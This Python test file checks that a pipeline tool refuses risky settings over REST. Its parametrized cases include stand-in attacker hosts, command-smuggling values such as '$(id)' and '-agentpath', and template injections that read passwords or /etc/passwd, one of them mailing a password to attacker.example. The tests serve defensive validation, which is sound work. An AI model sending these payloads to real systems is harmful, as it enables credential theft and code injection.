"""Settings of a pipeline that a user may change over REST who may not run code on the workers."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml

from changefeed.errors import SettingsError
from changefeed.settings.editor import Editor
from changefeed.settings.file import parse_pipeline
from changefeed.settings.pipeline import Pipeline
from changefeed.settings.rest_settings import SPARK_SIZES, check_rest_settings, offered_connections
from changefeed.settings.site import ConnectionPair, FollowerServer, Site

SMTP = "airflow.providers.smtp.notifications.smtp.SmtpNotifier"
SITE = Site(connections=[ConnectionPair(source="m", kafka="k")], notifiers=[SMTP], spark_conf=["spark.local.dir"])


def pipeline(**settings: Any) -> Pipeline:
    values = {"name": "shop", "source": {"connection": "m"}, "kafka": {"connection": "k"}, **settings}
    return parse_pipeline(yaml.safe_dump(copied(values)), "pipeline.yaml")


def copied(value: Any) -> Any:
    """A copy without shared objects, which YAML would write as aliases."""
    return json.loads(json.dumps(value))


def check(
    new: Pipeline,
    old: Pipeline | None = None,
    *others: Pipeline,
    site: Site = SITE,
    mine: Sequence[str] = (),
    connections: Sequence[str] = (),
) -> None:
    """A user who may edit the pipelines ``mine`` and ``connections``."""
    editor = Editor(lambda name: name in mine, lambda name: name in connections)
    check_rest_settings(new, old, {other.name: other for other in others}, site, editor)


def refused(settings: dict[str, Any], words: str) -> None:
    """Assert that settings are refused in a new and in a changed pipeline, and may stay if they exist."""
    new = pipeline(**settings)
    for old in (None, pipeline()):
        with pytest.raises(SettingsError, match=words):
            check(new, old)
    check(new, new, site=Site())
    check(pipeline(**settings, owner="ulf"), new, site=Site())


@pytest.mark.parametrize(
    "spark",
    [
        {"connect": "sc://attacker:15002"},
        {"connection": "other_cluster"},
        {"master": "spark://attacker:7077"},
        {"master": "local-cluster[1,1,1024]"},
        *(
            {"conf": {name: "x"}}
            for name in (
                "spark.jars",
                "spark.jars.packages",
                "spark.submit.pyFiles",
                "spark.driver.extraJavaOptions",
                "spark.driver.extraClassPath",
                "spark.driver.host",
                "spark.driver.resource.gpu.discoveryScript",
                "spark.executor.defaultJavaOptions",
                "spark.executor.resource.gpu.discoveryScript",
                "spark.executor.plugins",
                "spark.plugins",
                "spark.executorEnv.PYTHONPATH",
                "spark.yarn.appMasterEnv.PYTHONPATH",
                "spark.pyspark.python",
                "spark.python.daemon.module",
                "spark.task.resource.gpu.amount",
                "spark.sql.shuffle.orderedReader.class",
                "spark.dynamicAllocation.testing",
                "spark.memory.fraction.x",
                "spark.hadoop.fs.s3a.endpoint",
                "spark.master",
                "spark.redaction.regex",
                "spark.speculation",
            )
        ),
        {"deploy_mode": "cluster"},
        {"conf": {"spark.executor.memory": "1g -agentpath:/tmp/x.so"}},
        {"conf": {"spark.executor.cores": "$(id)"}},
        {"conf": {"spark.task.cpus": "1\n"}},
    ],
    ids=str,
)
def test_spark_settings_with_code_or_hosts_are_refused_over_rest(spark: dict[str, Any]) -> None:
    refused({"spark": spark}, "may not be set, changed or removed over REST")
    if not spark.get("conf", {}).keys() & SPARK_SIZES:
        with pytest.raises(SettingsError, match="removed over REST"):
            check(pipeline(), pipeline(spark=spark))


def test_sizes_and_listed_spark_settings_may_be_changed_over_rest() -> None:
    conf = {"spark.executor.memory": "2g", "spark.dynamicAllocation.enabled": "true", "spark.memory.fraction": "0.6"}
    spark = {"conf": {**conf, "spark.local.dir": "/var/tmp"}, "master": "local[4]", "slice_bytes": 1 << 20}
    check(pipeline(spark=spark))
    check(pipeline(), pipeline(spark=spark))
    with pytest.raises(SettingsError, match=r"spark\.local\.dir of `spark`"):
        check(pipeline(spark=spark), site=Site(connections=SITE.connections))


def test_connections_need_a_site_entry_or_an_editable_pipeline() -> None:
    mine = pipeline(name="mine", source={"connection": "m2"}, kafka={"connection": "k2"})
    table = {"store": "table", "connection": "state"}
    theirs = pipeline(name="theirs", kafka={"connection": "k3"}, checkpoint=table)
    for others in ([], [mine, theirs]):
        check(pipeline(), None, *others)
        for settings in (
            {"kafka": {"connection": "k2"}},
            {"source": {"connection": "m2"}},
            {"kafka": {"connection": "k3"}, "checkpoint": table},
            {"checkpoint": table},
            {"source": {"connection": "M"}},
        ):
            for old in (None, pipeline()):
                words = "checkpoint.connection 'state' may not be" if "checkpoint" in settings else "used together"
                with pytest.raises(SettingsError, match=words):
                    check(pipeline(**settings), old, *others, mine=["mine"], connections=["state"])
    as_mine = pipeline(source={"connection": "m2"}, kafka={"connection": "k2"})
    check(as_mine, None, mine, theirs, mine=["mine"])
    with pytest.raises(SettingsError, match=r"\{source: m2, kafka: k2\}"):
        check(as_mine, None, mine, theirs)
    with pytest.raises(SettingsError, match="CHANGEFEED_SITE"):
        check(as_mine, None, theirs, mine=["mine"])  # it was deleted
    check(as_mine, as_mine)


def test_server_ids_are_refused_over_rest() -> None:
    ids = {"connection": "m", "server_ids": "100-199"}
    for old in (
        None,
        pipeline(),
        pipeline(source={**ids, "server_ids": "100-200"}),
        pipeline(source={**ids, "connection": "m2"}),
    ):
        with pytest.raises(SettingsError, match="server_ids 100-199 may not be set"):
            check(pipeline(source=ids), old)
    check(pipeline(source=ids, owner="ulf"), pipeline(source=ids))
    check(pipeline(), pipeline(source=ids))


def test_pool_is_the_default_or_that_of_an_editable_pipeline() -> None:
    hers = pipeline(name="hers", pool="of_hers")
    for old in (None, pipeline(), pipeline(pool="another")):
        with pytest.raises(SettingsError, match="pool 'of_hers' may not be set"):
            check(pipeline(pool="of_hers"), old, hers)
        check(pipeline(pool="of_hers"), old, hers, mine=["hers"])
        check(pipeline(), old, hers)
    check(pipeline(pool="of_hers", owner="ulf"), pipeline(pool="of_hers"))


def test_read_limit_may_be_lowered_but_not_raised_over_rest() -> None:
    def limited(most: int | None) -> Pipeline:
        return pipeline(source={"connection": "m", "max_bytes_per_second": most})

    for most in (1_000_000, 500_000):
        check(limited(most), limited(1_000_000))
    for lifted in (2_000_000, None):
        with pytest.raises(SettingsError, match="may not be raised or removed over REST"):
            check(limited(lifted), limited(1_000_000))


@pytest.mark.parametrize(
    "argument",
    [
        {"html_content": "{{ conn.mysql_shop.password }}"},
        {"html_content": "{{{ changefeed.kind }}{ conn.x }}"},
        {"html_content": "{{ changefeed.kind }}{{ var.value.x }}"},
        {"html_content": "{{ changefeed.text.__class__ }}"},
        {"html_content": "{{ changefeed }}"},
        {"subject": "{% include '/etc/passwd' %}"},
        {"subject": "{# #}"},
        {"to": ["a@example.com", "{{ conn.x.password }}@attacker.example"]},
        {"files": ["/etc/passwd"]},
        {"template": "/etc/passwd"},
        {"smtp_conn_id": "other"},
        {"base_url": "http://attacker"},
        {"proxy": "http://attacker"},
    ],
    ids=str,
)
def test_notifier_arguments_over_rest_are_plain_texts(argument: dict[str, Any]) -> None:
    refused({"alerts": {"notify": [{"notifier": SMTP, "arguments": argument}]}}, "may not be set over REST")


def test_notifier_over_rest_needs_a_site_entry() -> None:
    arguments = {"to": "ops@example.com", "subject": "{{ changefeed.kind }}: {{changefeed.pipeline}}"}
    check(pipeline(alerts={"notify": [{"notifier": SMTP, "arguments": arguments}]}))
    check(pipeline(), pipeline(alerts={"notify": [{"notifier": SMTP, "arguments": arguments}]}))
    refused({"alerts": {"notify": [{"notifier": f"{SMTP}s", "arguments": arguments}]}}, "not in `notifiers`")


def test_registry_connection_is_refused_over_rest() -> None:
    settings = {"format": {"name": "avro", "registry": "elsewhere"}}
    refused(settings, "`registry` of a format may not be set or changed over REST")
    with pytest.raises(SettingsError, match="registry"):
        check(pipeline(**settings), pipeline(format={"name": "avro", "registry": "own"}))
    refused({"topics": {"routes": [{"match": "*.a", **settings}]}}, "`registry` of a format may not be set or changed")
    check(pipeline(), pipeline(**settings))


def test_on_incompatible_register_is_refused_over_rest() -> None:
    avro = {"name": "avro", "registry": "own"}
    stops, registers = (pipeline(format={**avro, "on_incompatible": word}) for word in ("stop", "register"))
    for old in (stops, pipeline(format=avro)):
        with pytest.raises(SettingsError, match="`on_incompatible: register` of a format may not be set over REST"):
            check(registers, old)
    check(registers, registers)
    check(stops, registers)


def followed(*connections: str, **settings: Any) -> Pipeline:
    return pipeline(**{"followers": [{"connection": each} for each in connections], "values": ISO, **settings})


def call(function: str, **more: Any) -> dict[str, Any]:
    return {"tables": "*.*", "function": function, "arguments": ARGUMENTS.get(function, {}), **more}


ISO = {"temporal": "iso"}
ARGUMENTS = {name: {"columns": ["a"]} for name in ("drop_fields", "obfuscate", "to_epoch")} | {
    "rename": {"columns": {"a": "b"}},
    "flatten": {"column": "a"},
}


def test_follower_over_rest_needs_a_site_entry_for_its_source() -> None:
    refused({"followers": [{"connection": "copy"}], "values": ISO}, "'copy' of source 'm' may not be set, changed or")
    for source in (None, "m", "other"):
        site = SITE.model_copy(update={"followers": [FollowerServer(connection="copy", source=source)]})
        for old in (None, followed()):
            if source == "other":
                with pytest.raises(SettingsError, match="is not in `followers`"):
                    check(followed("copy"), old, site=site)
            else:
                check(followed("copy"), old, site=site)
                check(followed(), followed("copy"), site=site)
        with pytest.raises(SettingsError, match="'more'"):
            check(followed("copy", "more"), followed("copy"), site=site)


def test_follower_of_the_file_gets_no_other_source_over_rest() -> None:
    """The follower's connection stays, and the source or the cluster changes."""
    pairs = [ConnectionPair(source="m2", kafka="k"), ConnectionPair(source="m", kafka="k2")]
    site = SITE.model_copy(update={"connections": pairs})
    for settings in ({"source": {"connection": "m2"}}, {"kafka": {"connection": "k2"}}):
        with pytest.raises(SettingsError, match="follower 'copy'"):
            check(followed("copy", **settings), followed("copy"), site=site)
        check(followed(**settings), followed(), site=site)


@pytest.mark.parametrize("function", ARGUMENTS)
def test_supplied_function_may_be_added_but_not_changed_over_rest(function: str) -> None:
    with_it = pipeline(transforms=[call(function)])
    for old in (None, pipeline()):
        check(with_it, old)
    for changed in ([], [call(function, tables="a.*")], [call("drop_fields", tables="b.b"), call(function)]):
        with pytest.raises(SettingsError, match="may not be changed, moved or removed over REST"):
            check(pipeline(transforms=changed), with_it)
    with pytest.raises(SettingsError, match="hides columns, so `transforms` may not be set"):
        check(pipeline(transforms=[call(function), call("drop_fields")]), with_it)


@pytest.mark.parametrize("function", ARGUMENTS)
def test_function_is_refused_over_rest_if_columns_are_hidden(function: str) -> None:
    """A failing function is refused too, as its error has the key of a row."""
    masked = {"columns": {"mask": {"*.*.a": {"characters": 1}}}}
    new, old = pipeline(**masked, transforms=[call(function)]), pipeline(**masked)
    with pytest.raises(SettingsError, match="hides columns, so `transforms` may not be set"):
        check(new, old)
    check(new, None)


def test_function_of_the_folder_needs_a_site_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHANGEFEED_TRANSFORMS", str(tmp_path))
    for name in ("shop_own", "drop_fields"):
        (tmp_path / f"{name}.py").write_text("def transform(change, columns=()):\n    return change\n")
        new = pipeline(transforms=[call(name)])
        for old in (None, pipeline()):
            with pytest.raises(SettingsError, match=f"function '{name}' may not be added"):
                check(new, old)
            check(new, old, site=SITE.model_copy(update={"transforms": ["shop_*", "drop_fields"]}))
        check(new, pipeline(), connections=["m", "k"])
    with pytest.raises(SettingsError, match="no transform"):
        pipeline(transforms=[call("../shop_own")])


def test_editor_of_all_connections_is_exempt_from_connection_rules() -> None:
    masked = {"columns": {"mask": {"*.*.a": {"sha256": {"connection": "salt"}}}, "exclude": ["*.*.b"]}}
    secret = call("obfuscate", secrets={"keep": {"connection": "salt"}})
    registry = {"format": {"name": "avro", "registry": "schemas"}}
    table = {"store": "table", "connection": "state"}
    cases: list[tuple[Pipeline, Pipeline | None, list[str]]] = [
        (pipeline(kafka={"connection": "k9"}, checkpoint=table), pipeline(checkpoint=table), ["m", "k", "k9", "state"]),
        (pipeline(source={"connection": "m9"}), None, ["m9", "k"]),
        (pipeline(), pipeline(**masked), ["m", "k", "salt"]),
        (pipeline(**masked), pipeline(), ["m", "k", "salt"]),
        (pipeline(), pipeline(transforms=[call("drop_fields")]), ["m", "k"]),
        (pipeline(transforms=[secret]), pipeline(), ["m", "k", "salt"]),
        (followed("copy"), followed(), ["m", "k", "copy"]),
        (followed(), followed("copy"), ["m", "k", "copy"]),
        (pipeline(**registry), pipeline(), ["m", "k", "schemas"]),
    ]
    for new, old, used in cases:
        check(new, old, site=Site(), connections=used)
        for missing in used:
            with pytest.raises(SettingsError, match=f"you may not edit '{missing}'"):
                check(new, old, site=Site(), connections=[each for each in used if each != missing])


def test_state_database_is_refused_even_for_an_editor_of_connections() -> None:
    table = {"checkpoint": {"store": "table", "connection": "state"}}
    for old in (None, pipeline()):
        with pytest.raises(SettingsError, match=r"checkpoint\.connection 'state' may not be set over REST"):
            check(pipeline(**table), old, connections=["m", "k", "state"])
    mine = pipeline(name="mine", **table)
    check(pipeline(**table), None, mine, mine=["mine"])


def test_environment_variable_of_workers_is_refused_over_rest() -> None:
    where = {"environment": "AIRFLOW__API_AUTH__JWT_SECRET"}
    secret = call("obfuscate", secrets={"keep": where})
    kept = pipeline(transforms=[secret], columns={"mask": {"*.*.a": {"sha256": where}}})
    for new in (
        pipeline(columns={"mask": {"*.*.a": {"sha256": where}}}),
        pipeline(transforms=[secret]),
    ):
        for old in (None, pipeline()):
            with pytest.raises(SettingsError, match="JWT_SECRET} of a mask or a function may not be set over REST"):
                check(new, old, connections=["m", "k"])
    for new in (
        pipeline(transforms=[{**secret, "tables": "a.b"}]),
        pipeline(columns={"mask": {"*.*.a": {"text_from": where}}}),
    ):
        with pytest.raises(SettingsError, match="JWT_SECRET"):
            check(new, kept, connections=["m", "k"])
    check(pipeline(transforms=[secret]), kept, connections=["m", "k"])


def test_refused_follower_lists_all_reasons() -> None:
    with pytest.raises(SettingsError, match=r"(?s)publish_ddl: off.*statements: skip"):
        pipeline(followers=[{"connection": "copy"}], publish_ddl="off", statements="skip")


def test_commit_log_key_is_refused_over_rest() -> None:
    keyed = {"commit_log": {"key": {"connection": "log_key"}}}
    refused(keyed, "`commit_log` may not be set")
    with pytest.raises(SettingsError, match="removed over REST"):
        check(pipeline(), pipeline(**keyed))


def test_offered_connections_are_accepted_and_no_others() -> None:
    shop = pipeline(source={"connection": "m2"})
    foreign, hiding = (
        pipeline(name="foreign", source={"connection": "m3"}),
        pipeline(name="hiding", source={"connection": "m4"}, columns={"exclude": ["*.*.iban"]}),
    )
    others = {each.name: each for each in (shop, foreign, hiding)}
    offered = offered_connections(others, SITE, lambda name: name in ("shop", "hiding"))
    assert [pair.source for pair in offered] == ["m", "m2"]
    for source in ("m", "m2"):
        check(pipeline(name="new", source={"connection": source}), None, *others.values(), mine=("shop", "hiding"))
    for source in ("m3", "m4"):
        with pytest.raises(SettingsError):
            check(pipeline(name="new", source={"connection": source}), None, *others.values(), mine=("shop", "hiding"))
